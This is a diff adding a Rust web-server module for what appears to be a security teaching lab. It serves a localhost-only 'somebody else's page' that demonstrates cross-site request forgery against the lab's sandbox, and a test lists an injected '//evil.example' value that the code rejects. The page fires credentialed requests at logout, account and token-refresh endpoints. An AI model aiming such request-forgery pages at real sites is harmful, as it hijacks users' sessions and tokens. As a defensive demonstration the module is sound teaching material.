@@ -1,0 +1,128 @@
+//! Somebody else's site: a second port of this machine with one constant page that attacks a sandbox from outside. It is
+//! another site when it is named by the other of the machine's two names, and the same site but another origin when it is
+//! named by the same, which is where `SameSite` stops helping.
+
+use axum::{
+    Router,
+    extract::{Query, State},
+    http::{HeaderValue, StatusCode, Uri, header},
+    response::{Html, IntoResponse as _, Response},
+    routing::get,
+};
+use serde::Deserialize;
+use tokio::{net::TcpListener, sync::watch};
+
+use super::rooms::Others;
+
+const ID: usize = 22;
+const NAMES: [&str; 2] = ["localhost", "127.0.0.1"];
+
+/// Serves the page until the server stops. `None` where this machine is not reached by one of its own names.
+pub async fn serve(public_url: &str, mut stopping: watch::Receiver<bool>) -> std::io::Result<Option<Others>> {
+    let Some(origins) = origins(public_url) else { return Ok(None) };
+    let listener = TcpListener::bind("127.0.0.1:0").await?;
+    let port = listener.local_addr()?.port();
+    let [same, other] = names(public_url).unwrap_or(NAMES).map(|name| format!("http://{name}:{port}"));
+    let router = Router::new().route("/attack", get(attack)).with_state(origins);
+    tokio::spawn(async move {
+        let stopped = async move { drop(stopping.wait_for(|stopping| *stopping).await) };
+        let _ = axum::serve(listener, router).with_graceful_shutdown(stopped).await;
+    });
+    Ok(Some(Others { site: Some(other), port: Some(same) }))
+}
+
+/// The name the app is reached by, and the other one.
+fn names(public_url: &str) -> Option<[&'static str; 2]> {
+    let url: Uri = public_url.parse().ok()?;
+    match url.host()? {
+        "localhost" => Some(NAMES),
+        "127.0.0.1" => Some([NAMES[1], NAMES[0]]),
+        _ => None,
+    }
+}
+
+/// The app's origin by either name: a page may be opened by both.
+fn origins(public_url: &str) -> Option<[String; 2]> {
+    let url: Uri = public_url.parse().ok()?;
+    let port = url.port_u16().map(|port| format!(":{port}")).unwrap_or_default();
+    Some(names(public_url)?.map(|name| format!("http://{name}{port}")))
+}
+
+#[derive(Deserialize)]
+struct Victim {
+    mount: String,
+    origin: String,
+}
+
+/// Both values are put into the page, so nothing but what they have to be is taken.
+async fn attack(State(origins): State<[String; 2]>, Query(Victim { mount, origin }): Query<Victim>) -> Response {
+    if !is_mount(&mount) || !origins.contains(&origin) {
+        return (StatusCode::NOT_FOUND, "There is no such sandbox to attack.").into_response();
+    }
+    let page = PAGE.replace("{victim}", &[&*origin, &mount].concat());
+    let mut response = Html(page).into_response();
+    let policy = format!("frame-ancestors {}", origins.join(" "));
+    let policy = HeaderValue::try_from(policy).unwrap_or_else(|_| HeaderValue::from_static("frame-ancestors 'none'"));
+    response.headers_mut().insert(header::CONTENT_SECURITY_POLICY, policy);
+    response.headers_mut().insert(header::CACHE_CONTROL, HeaderValue::from_static("no-store"));
+    response
+}
+
+fn is_mount(mount: &str) -> bool {
+    let id = mount.strip_prefix("/lab/").unwrap_or_default();
+    id.len() == ID && id.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'-' || byte == b'_')
+}
+
+const PAGE: &str = r#"<!DOCTYPE html>
+<html lang="en">
+<meta charset="utf-8">
+<title>Somebody else's page</title>
+<style>body { font: 1rem/1.5 system-ui, sans-serif; margin: 1rem; } :root { color-scheme: light dark; }</style>
+<h1>Somebody else's page</h1>
+<p>You only look at this page, and it has already tried three things with your sign-in:</p>
+<ol id="tries" aria-live="polite"></ol>
+<p><a href="{victim}/notes">Arrive by a link</a>: go from here to your notes.</p>
+<form id="form" method="post" target="hidden" action="{victim}/api/auth/refresh"></form>
+<iframe name="hidden" title="Where the form's answer goes" hidden></iframe>
+<script>
+  const say = (text) => document.getElementById("tries").append(Object.assign(document.createElement("li"), { textContent: text }));
+  const call = async () => {
+    say("A call that would sign you out.");
+    await fetch("{victim}/api/auth/logout", { method: "POST", mode: "no-cors", credentials: "include" }).catch(() => {});
+  };
+  const image = () => new Promise((done) => {
+    say("An image whose address is your account.");
+    const image = new Image();
+    image.onload = image.onerror = done;
+    image.src = "{victim}/api/account/me";
+  });
+  const form = () => new Promise((done) => {
+    say("A form that would turn your refresh token.");
+    document.querySelector("iframe").onload = done;
+    document.getElementById("form").submit();
+  });
+  call().then(image).then(form);
+</script>
+"#;
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn the_other_site_has_the_other_name() {
+        assert_eq!(origins("http://localhost:3000").unwrap()[1], "http://127.0.0.1:3000");
+        assert_eq!(origins("http://127.0.0.1:3000").unwrap()[1], "http://localhost:3000");
+        assert!(origins("https://example.com").is_none());
+    }
+
+    #[test]
+    fn nothing_but_a_mount_is_put_into_the_page() {
+        assert!(is_mount("/lab/AAAAAAAAAAAAAAAAAAAA-_"));
+        for bad in
+            ["", "/lab/", "/lab/AAAAAAAAAAAAAAAAAAAA\"<", "/lab/AAAAAAAAAAAAAAAAAAAAAAA", "//evil.example/AAAAAAA"]
+        {
+            assert!(!is_mount(bad), "{bad}");
+        }
+    }
+}
